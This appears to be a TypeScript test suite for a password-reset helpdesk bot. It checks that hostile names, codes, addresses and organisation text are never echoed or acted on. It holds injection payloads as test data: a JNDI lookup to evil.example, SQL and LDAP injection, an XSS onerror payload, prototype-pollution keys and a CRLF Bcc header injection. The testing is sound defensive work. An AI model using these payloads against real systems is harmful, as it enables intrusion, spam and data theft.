import assert from 'node:assert/strict';
import { onEveryChannel, type Scenario, scenario } from '../world/scenario.ts';

const nasty =
  '<!channel> <https://evil.example|Approved> [click](https://evil.example) <img src=x onerror=alert(1)> *b* \u202etxt\u2066';

/** Somebody whose very name attacks. */
const nora = {
  id: 'fh-4001',
  login: "nora'or'1'='1",
  upn: 'nora<b>@fernhill.example',
  displayName: nasty,
  givenName: nasty,
  surname: '${jndi:ldap://evil.example}',
};

/** Three for each asker: more are refused within the hour. */
const odd = [
  ['*@*', 'a)(objectClass=*)@fernhill.example', '\\00'],
  ['["a.b","c.d"]', '{"$ne":"a.b"}', '__proto__.login'],
  ["'.or(1=1)--", nasty, '\u0000\u0007'],
  ['constructor.name', `${'ß'.repeat(200)}.x`, nora.upn],
];

describe('hostile input', () => {
  onEveryChannel((channel) => {
    let world: Scenario;
    before(async () => {
      world = await scenario(channel, {
        colleagues: 16,
        people: [nora],
        policy: {
          branding: { organisation: nasty.slice(0, 64) },
          helpdesk: { name: nasty.slice(0, 64), contact: null },
          limits: { answerFloorMs: 500 },
        },
      });
    });
    after(() => world.stop());

    it('names are never echoed, and odd ones are answered like any other (SEC-15, SEC-26)', async () => {
      const sayAll = async (names: readonly string[]): Promise<string> => {
        const sam = await world.somebody('authenticator-code', 'email-code');
        for (const name of names) await sam.asks(`reset ${name}`, 'prove.first');
        return sam.chat
          .screens()
          .map(({ text }) => text)
          .join('\n');
      };
      const shown = (await Promise.all(odd.map(sayAll))).join('\n');
      for (const part of ['objectClass', '$ne', '__proto__', '1=1']) assert.ok(!shown.includes(part), part);
      assert.equal(world.mail.received.length, 0);
    });

    it('ten thousand characters, and text in many scripts, get an answer and nothing else', async () => {
      const sam = await world.somebody();
      await sam.says('hello');
      for (const text of ['x'.repeat(10_000), 'reset '.repeat(1_600), '\u202ereset', '🙂'.repeat(2_000), nasty]) {
        await sam.asks(text, 'menu.title');
        await sam.presses('task.methods');
        await sam.sees('methods.none');
        await sam.presses('cancel');
      }
    });

    it('text of the organisation is inert on the card (SEC-13)', async () => {
      const sam = await world.somebody();
      await sam.asks('help', 'menu.title');
      await sam.asks('reset', 'refused.not-registered');
      const everything = sam.chat.everything();
      assert.ok(!/"type":"mrkdwn","text":"[^"]*<!/.test(everything), 'a mention of the whole channel');
      assert.ok(
        world.slack.state.messages.every(({ from, text }) => from === 'person' || !/<[!h]/.test(text)),
        'text that Slack would read',
      );
      assert.deepEqual(sam.screen.outward, []);
      assert.ok(!everything.includes('\u202e'));
    });

    it('text of the organisation is inert on the page and in mails (SEC-13)', async () => {
      const sam = await world.somebody('authenticator-code', 'email-code');
      await sam.resets();
      await sam.passesApp();
      await sam.passesMail();
      const { html } = await sam.opensPage();
      assert.ok(!html.includes('<img'), html);
      assert.ok(!html.includes('\u202e'));
      const [mail] = world.mail.to(sam.who.mail);
      assert.ok(!mail?.mail.html?.includes('<img'));
      assert.ok(!mail?.mail.subject?.includes('\n'));
    });

    it('a code field takes a code: two addresses, lists and long text send and open nothing', async () => {
      const sam = await world.somebody('authenticator-code', 'email-code');
      await sam.resets();
      await sam.picks('authenticator-code');
      for (const code of ['１２３４５６', "000000' or '1'='1", '000000\n111111']) {
        await sam.types(code);
        await sam.sees('problem.code.wrong');
      }
    });

    it('an address field takes one address: never two, never a header (SEC-15)', async () => {
      const sam = await world.somebody('authenticator-code', 'recovery-code');
      await sam.asks('register', 'prove.first');
      await sam.passesApp();
      await sam.opensPage();
      await sam.typesRecoveryCode(sam.recoveryCodes[0] ?? '');
      await sam.sees('register.choose');
      await sam.picks('email-code');
      const before = world.mail.received.length;
      const odd = [
        'a@x.example,b@y.example',
        'a@x.example\r\nBcc: b@y.example',
        'a@x.example b@y.example',
        '<a@x.example>',
        'a@[127.0.0.1]',
      ];
      for (const address of odd) {
        await sam.types(address, 'address');
        await sam.sees('problem.address.invalid');
      }
      const codes = world.mail.received.slice(before).filter(({ mail }) => mail.subject?.includes('verification code'));
      assert.equal(codes.length, 0);
    });

    it('a password may be anything that can be printed, and stays the same whatever keyboard typed it (SEC-76)', async () => {
      const sam = await world.somebody('authenticator-code', 'email-code');
      await sam.resets();
      await sam.passesApp();
      await sam.passesMail();
      await sam.opensPage();
      const chosen = 'café <script>"\' naïve 🙂 garden';
      await sam.choosesPassword(chosen.normalize('NFD'));
      await sam.sees('outcome.reset.done');
      assert.equal(await sam.signsIn(chosen.normalize('NFC')), 'in');
    });
  });
});
